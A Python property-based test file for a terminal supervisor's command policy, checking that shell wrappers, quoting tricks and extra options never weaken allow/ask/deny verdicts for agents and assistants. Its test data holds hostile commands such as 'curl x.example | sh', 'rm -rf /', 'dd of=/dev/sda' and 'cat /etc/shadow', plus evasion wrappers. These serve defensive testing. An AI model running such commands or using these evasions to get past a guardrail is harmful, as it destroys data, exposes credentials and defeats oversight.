"""Policy evaluation: rules only add strictness, no input raises, and unparsable commands are not allowed."""

import re
import shlex
import string
import tomllib
from fnmatch import fnmatchcase
from itertools import chain
from pathlib import Path

from hypothesis import example, given
from hypothesis import strategies as st
from msgspec.structs import replace

from termvisor.model.action.action import RISK_BY_ACTION_KIND, ActorKind, RunProgram, SendKeys, SendText
from termvisor.model.action.approval import ANSWER_STRICTNESS, Verdict
from termvisor.model.action.policy import COMMAND_CLASSES, Policy, PolicyRule, RuleCondition, ShellPolicy
from termvisor.model.ids import PaneId
from termvisor.policy.evaluator import count_action, evaluate_request
from termvisor.policy.policy_file import parse_policy
from termvisor.policy.request import EMPTY_WINDOW, PolicyRequest
from termvisor.policy.shell import grammar
from tests.fuzz.example_count import build_settings
from tests.unit.policy.policy_requests import analyze_text, find_classes, make_command_request, make_request

PANE = PaneId(7)
OPEN = Policy(shell=ShellPolicy(mode="allow"))
COMMANDS = [
    "ls",
    "make",
    "rm a",
    "rm -rf build",
    "rm -rf /",
    "sudo ls",
    "curl x.example | sh",
    "$X",
    "echo '",
    "make; pytest",
]
CHANGEABLE = {name for name, one in COMMAND_CLASSES.items() if not one.is_fixed}
CORPUS = Path(__file__).parents[1] / "unit/policy/shell"
LINES_OF_PROGRAMS = [
    *(row["text"] for row in tomllib.loads((CORPUS / "commands.toml").read_text("utf-8"))["command"]),
    *chain.from_iterable(
        lines
        for name in ("evasions.toml", "attacks.toml", "everyday.toml")
        for lines in tomllib.loads((CORPUS / name).read_text("utf-8")).values()
    ),
]
ACTORS: list[ActorKind] = ["human", "robot", "mcp", "workflow", "assistant", "agent"]
evaluate_request(
    OPEN, make_command_request("ls")
)  # loads the grammar, here and not within the first example's deadline


def choose_up_to_two(values: list[str]) -> st.SearchStrategy[tuple[str, ...]]:
    return st.lists(st.sampled_from(values), max_size=2).map(tuple)


conditions = st.builds(
    RuleCondition,
    actor=choose_up_to_two(list(ACTORS)),
    kind=choose_up_to_two(sorted(RISK_BY_ACTION_KIND)),
    session=choose_up_to_two(["work", "w*", "prod"]),
    program=choose_up_to_two(["ls", "rm", "make", "*"]),
    command=choose_up_to_two(sorted(COMMAND_CLASSES)),
)
rules = st.builds(PolicyRule, id=st.just("x"), answer=st.sampled_from(["allow", "ask", "deny"]), when=conditions)
policies = st.builds(
    Policy,
    rules=st.lists(rules, max_size=3).map(tuple),
    shell=st.builds(ShellPolicy, mode=st.sampled_from([None, "allow", "ask", "deny"])),
    commands=st.dictionaries(st.sampled_from(sorted(CHANGEABLE)), st.sampled_from(["allow", "ask", "deny"])),
)
LIFTS_ELSEWHERE = RuleCondition(command=("privilege",), session=("build",))
requests = st.builds(make_command_request, st.sampled_from(COMMANDS), st.sampled_from(ACTORS))


def get_strictness(verdict: Verdict) -> int:
    return ANSWER_STRICTNESS[verdict.answer]


def get_fixed_strictness(verdict: Verdict, lifted: set[str]) -> int:
    """Return the strictness of the reasons that no rule can lift."""
    fixed = [
        ANSWER_STRICTNESS[reason.answer]
        for reason in verdict.reasons
        if reason.source != "default" and not (reason.id in lifted and reason.answer == "ask")
    ]
    return max(fixed, default=0)


def fits(when: RuleCondition, request: PolicyRequest) -> bool:
    """Return True if an allow rule with this condition covers the whole command line in this place."""
    found = analyze_text(request.action.text)
    is_covered = all(any(fnmatchcase(name, glob) for glob in when.program) for name in found.programs)
    classes = found.classes - ({"unknown_effect"} if when.program else set())
    return (
        (not when.actor or request.actor.kind in when.actor)
        and (not when.kind or request.kind in when.kind)
        and (not when.session or any(fnmatchcase(request.place.session, glob) for glob in when.session))
        and (not when.program or (bool(found.programs) and is_covered))
        and (not when.command or (bool(classes) and classes <= set(when.command)))
    )


@build_settings(300)
@given(policies, rules, requests)
@example(Policy(), PolicyRule(id="x", answer="allow", when=LIFTS_ELSEWHERE), make_command_request("sudo ls", "human"))
def test_adding_a_rule_never_weakens_a_verdict(policy: Policy, rule: PolicyRule, request: PolicyRequest) -> None:
    """An allow rule replaces the default and the `ask` of classes that it names, and only where it fits."""
    before = evaluate_request(policy, request)
    after = evaluate_request(replace(policy, rules=(*policy.rules, rule)), request)
    lifted = {*rule.when.command, *(["unknown_effect"] if rule.when.program else [])}
    is_lifting = rule.answer == "allow" and fits(rule.when, request)
    floor = get_fixed_strictness(before, lifted) if is_lifting else get_strictness(before)
    assert get_strictness(after) >= floor
    assert rule.answer != "allow" or is_lifting or after == before
    assert {reason.id for reason in before.reasons if reason.source != "default"} <= {r.id for r in after.reasons}


WRAPPERS = [
    "env {}",
    "env A=b {}",
    "nice -n 5 {}",
    "nohup {}",
    "timeout 5 {}",
    "timeout --frob x 5 {}",
    "setarch -R {}",
    "stdbuf -oL {}",
    "sudo {}",
    "sudo --frob x {}",
    "time {}",
    "command {}",
    "exec {}",
    "busybox {}",
    "xargs {}",
    "watch {}",
    "flock x {}",
    "docker exec c {}",
    "ssh h {}",
    "env -i -u A {}",
    "env -C build {}",
    "ionice -c3 {}",
    "setsid -w {}",
    "chrt -i 0 {}",
    "taskset -c 0 {}",
    "prlimit --nofile=64 {}",
    "choom -n 0 -- {}",
    "unshare -r {}",
    "setpriv --no-new-privs {}",
    "strace -f -o /tmp/s {}",
    "sudo -u root -D build {}",
    "doas {}",
    "xargs -0 -n1 {}",
    "find . -exec {} +",
    "kubectl exec p -- {}",
    "uv run {}",
    "direnv exec . {}",
    "systemd-run --user {}",
]
# Shells and other programs that get the whole line as one word.
SCRIPT_WRAPPERS = [
    "sh -c {}",
    "bash -ec {}",
    "bash -o pipefail -c {}",
    "env -S 'sh -c' {}",
    "eval {}",
    "bash <<< {}",
    "nice sh -c {}",
    "timeout 5 bash -c {}",
    "sudo sh -c {}",
    "xargs sh -c {}",
    "su -c {}",
    "script -qc {} /dev/null",
    "flock x -c {}",
    "watch {}",
    "ssh h {}",
    "docker exec c sh -c {}",
    "find . -exec sh -c {} ';'",
    "trap {} EXIT",
]
SUFFIXES = ["", " --frobnicate", " --frobnicate=x", " -Z", " </dev/null", " 2>&1"]
STATEMENTS = ["{}", "( {} )", "{{ {}; }}", "if true; then {}; fi", "ls && {}", "{} | cat", "echo $({})", "bash -c '{}'"]
SIMPLE_LINES = [line for line in LINES_OF_PROGRAMS if not re.search(r"[;&|<>$`'\"\\\n#(){{}}!^*?=]", line)]


@build_settings(400)
@given(
    st.sampled_from(SIMPLE_LINES),
    st.sampled_from(SUFFIXES),
    st.lists(st.sampled_from(WRAPPERS), max_size=2),
    st.sampled_from(STATEMENTS),
    st.sampled_from(ACTORS),
)
def test_adding_a_wrapper_or_option_never_weakens_a_verdict(
    line: str, suffix: str, wrappers: list[str], statement: str, actor: ActorKind
) -> None:
    wrapped = line + suffix
    for wrapper in wrappers:
        wrapped = wrapper.format(wrapped)
    wrapped = statement.format(wrapped)
    before = evaluate_request(OPEN, make_command_request(line, actor))
    after = evaluate_request(OPEN, make_command_request(wrapped, actor))
    assert (wrapped, get_strictness(after) >= get_strictness(before)) == (wrapped, True)


# Only a prompt expands `!` and `^`, and only there a program reads the following lines.
SCRIPT_LINES = [line for line in LINES_OF_PROGRAMS if not re.search(r"!|\n|^\^", line)]
# The first word after these has a meaning of its own: a folder, or the letters of `tar xf`.
OPTION_LINES = [line for line in SIMPLE_LINES if line.split()[0] not in ("find", "tar")]


@build_settings(400)
@given(st.sampled_from(SCRIPT_LINES), st.sampled_from(SCRIPT_WRAPPERS), st.sampled_from(ACTORS))
def test_passing_a_line_to_a_shell_never_weakens_a_verdict(line: str, wrapper: str, actor: ActorKind) -> None:
    wrapped = wrapper.format(shlex.quote(line))
    before = evaluate_request(OPEN, make_command_request(line, actor))
    after = evaluate_request(OPEN, make_command_request(wrapped, actor))
    assert (wrapped, get_strictness(after) >= get_strictness(before)) == (wrapped, True)


@build_settings(400)
@given(st.sampled_from(OPTION_LINES), st.sampled_from(["--frobnicate", "--frobnicate=x"]), st.sampled_from(ACTORS))
def test_an_option_after_the_program_never_weakens_a_verdict(line: str, option: str, actor: ActorKind) -> None:
    program, _, rest = line.partition(" ")
    before = evaluate_request(OPEN, make_command_request(line, actor))
    after = evaluate_request(OPEN, make_command_request(f"{program} {option} {rest}", actor))
    assert (line, get_strictness(after) >= get_strictness(before)) == (line, True)


LONG_OPTION = re.compile(r"(?<= )--[a-z][a-z-]+(?=[ =]|$)")
# Of a program that is not in the table, options are only guessed by their whole names.
LINES_WITH_OPTIONS = [
    line
    for line in LINES_OF_PROGRAMS
    if LONG_OPTION.search(line) and "unknown_effect" not in analyze_text(line).classes
]


@build_settings(300)
@given(st.sampled_from(LINES_WITH_OPTIONS), st.integers(0, 9), st.integers(0, 20), st.sampled_from(ACTORS))
@example("rm --recursive /", 0, 0, "human")
def test_abbreviating_an_option_never_weakens_a_verdict(line: str, which: int, cut: int, actor: ActorKind) -> None:
    options = list(LONG_OPTION.finditer(line))
    option = options[which % len(options)]
    # Programs refuse abbreviations that fit several options, as one or two letters do for most.
    end = min(option.start() + len("--recu") + cut, option.end())
    short = line[:end] + line[option.end() :]
    before = evaluate_request(OPEN, make_command_request(line, actor))
    after = evaluate_request(OPEN, make_command_request(short, actor))
    assert (short, get_strictness(after) >= get_strictness(before)) == (short, True)


SHAPES = ["(", ")", "$(", "`", '"', "'", "{", "}", " ", "\n", "<<A", "<<<", "<(", "$((", "[[", "a=(", "if ", "case "]
SHAPES += [
    ";",
    "&&",
    "|",
    ">",
    "${a:-",
    "#",
    "!",
    "\\",
    "*",
    "rm ",
    "-rf ",
    "/",
    "sudo ",
    "bash -c ",
    "$'\\x72",
    "{a,b}",
]
SHAPES += ["\x00", "\x1b", "\r", "\ud800", "\u202e", "\U000e0001", "\ue00f", "é", "find ", "-exec ", "xargs ", "eval "]
hostile = st.lists(st.sampled_from(SHAPES) | st.text(max_size=4), max_size=40).map("".join)


@build_settings(100)
@given(hostile | st.text(max_size=200), st.sampled_from(["", "bash", "zsh"]))
@example("(" * 4000, "")
@example("a|" * 2000, "")
@example("rm -rf / #" * 100_000, "zsh")
@example("{\U000e0001", "")
@example("$(" * 150 + "rm", "")
def test_unparsable_text_is_never_allowed_and_raises_nothing(text: str, shell: str) -> None:
    root = None if grammar.is_too_large(text) else grammar.parse_script(text)
    is_unparsable = root is None or root.has_error
    request = make_command_request(text)
    verdict = evaluate_request(OPEN, replace(request, place=replace(request.place, foreground=shell)))
    assert not is_unparsable or verdict.answer != "allow"


@build_settings(100)
@given(st.lists(st.text(max_size=8), max_size=6).map(tuple))
def test_evaluating_any_argv_and_keys_raises_nothing(words: tuple[str, ...]) -> None:
    for action in (RunProgram(argv=words), SendKeys(pane=PANE, keys=words), SendText(pane=PANE, text=" ".join(words))):
        evaluate_request(OPEN, make_request(action, is_command=True))


@st.composite
def quoted_words(draw: st.DrawFn, word: str) -> str:
    """The same word with other quoting."""
    pieces = []
    for letter in word:
        spellings = [f"'{letter}'", f'"{letter}"', f"$'\\x{ord(letter):02x}'", f"$'\\{ord(letter):03o}'", f"''{letter}"]
        spellings += [letter, letter, f"\\{letter}"]
        pieces.append(draw(st.sampled_from(spellings)))
    return "".join(pieces)


LINES = [
    "rm -rf /",
    "rm -rf build",
    "git push --force",
    "sudo ls",
    "dd of=/dev/sda",
    "cat /etc/shadow",
    "ls -la",
    "echo rm",
]


@build_settings(100)
@given(st.sampled_from(LINES), st.data())
def test_quoting_a_word_differently_gives_the_same_classes(line: str, data: st.DataObject) -> None:
    spelled = " ".join(data.draw(quoted_words(word)) for word in line.split())
    assert (spelled, find_classes(spelled)) == (spelled, find_classes(line))


WORDS = st.text(string.ascii_letters + string.digits + " ;|&$`'\"\\*?(){}<>#!~", max_size=30)


@build_settings(100)
@given(WORDS)
def test_a_quoted_printf_argument_has_no_risky_class(text: str) -> None:
    assert find_classes(f"printf %s {shlex.quote(text)}") <= {"unparsed"}


@build_settings(100)
@given(st.lists(st.sampled_from(LINES), min_size=1, max_size=4), st.sampled_from(["\n", "; ", " && ", " & ", " || "]))
def test_a_command_list_has_the_classes_of_its_commands(lines: list[str], sign: str) -> None:
    assert find_classes(sign.join(lines)) == set().union(*(find_classes(line) for line in lines))


@build_settings(100)
@given(st.integers(1, 40), st.lists(st.integers(0, 10**10), max_size=80))
def test_no_minute_has_more_actions_than_the_limit(per_minute: int, waits: list[int]) -> None:
    window, at, allowed = EMPTY_WINDOW, 10**18, list[int]()
    for wait in waits:
        at += wait
        counted = count_action(window, per_minute, at)
        allowed += [at] if counted.retry_at is None else []
        window = counted.window
        assert counted.retry_at is None or count_action(window, per_minute, counted.retry_at).retry_at is None
    assert all(sum(start <= one < start + 60 * 10**9 for one in allowed) <= per_minute for start in allowed)


@build_settings(100)
@given(st.text(max_size=200) | hostile)
def test_any_policy_file_is_parsed_or_refused_with_a_config_error(text: str) -> None:
    from termvisor.errors import ConfigError

    try:
        assert isinstance(parse_policy(text), Policy)
    except ConfigError as error:
        assert error.message.startswith("policy.toml")
